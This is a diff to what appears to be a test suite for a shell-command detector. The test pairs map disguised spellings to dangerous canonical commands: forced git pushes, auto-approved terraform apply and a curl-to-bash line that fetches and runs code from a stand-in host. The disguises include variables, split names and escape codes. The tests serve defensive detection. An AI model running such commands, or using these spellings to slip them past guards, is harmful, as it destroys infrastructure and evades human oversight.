@@ -18,6 +18,11 @@ struct CommandFindingTests {
         ("git push origin +main", "git push --force origin main"),
         ("git push origin HEAD:main --force", "git push --force origin main"),
         ("curl -s https://x.example | sudo bash -", "curl -s https://x.example | bash"),
+        // Commands spelled through variables the script sets itself.
+        ("TF=terraform; $TF apply -auto-approve", "terraform apply -auto-approve"),
+        ("export CMD=\"terraform apply -auto-approve\"\n$CMD", "terraform apply -auto-approve"),
+        ("T=terra; ${T}form apply -auto-approve", "terraform apply -auto-approve"),
+        ("X=terraform; bash -c \"$X apply -auto-approve\"", "terraform apply -auto-approve"),
         // bash's quoting that spells characters by code.
         ("$'\\x74erraform' apply -auto-approve", "terraform apply -auto-approve"),
         ("$'\\164erraform' apply $'-auto-approve'", "terraform apply -auto-approve"),
@@ -63,6 +68,9 @@ struct CommandFindingTests {
             "cat <<'EOF' > notes.txt\n$(terraform apply -auto-approve)\nEOF",
             "cat <<EOF > notes.txt\n\\$(terraform apply -auto-approve)\nEOF",
             "find . -name '*.tf' -print",
+            "X=terraform; echo \"$X apply -auto-approve\"",
+            // A prefix assignment applies to the command's environment, after its words were expanded.
+            "TF=terraform TF_LOG=1 $TF apply -auto-approve",
             "echo 'terraform apply -auto-approve' > notes.txt",
             "echo 'terraform apply -auto-approve' | grep bash",
             "grep sh <<EOF\nterraform apply -auto-approve\nEOF",
